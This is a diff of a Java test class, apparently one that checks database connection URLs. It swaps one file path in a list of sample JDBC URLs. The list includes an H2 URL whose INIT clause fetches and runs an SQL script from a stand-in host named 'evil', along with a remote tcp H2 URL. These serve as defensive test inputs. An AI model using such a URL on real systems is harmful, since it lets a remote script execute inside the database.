@@ -67,7 +67,7 @@ class DatabaseUrlTest {
         List.of(
             "jdbc:h2:tcp://evil/x",
             "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
-            "jdbc:h2:file:/tmp/x",
+            "jdbc:h2:file:/data/x",
             "jdbc:mysql://db/x",
             "JDBC:postgresql://db/x",
             "postgres://db/x",
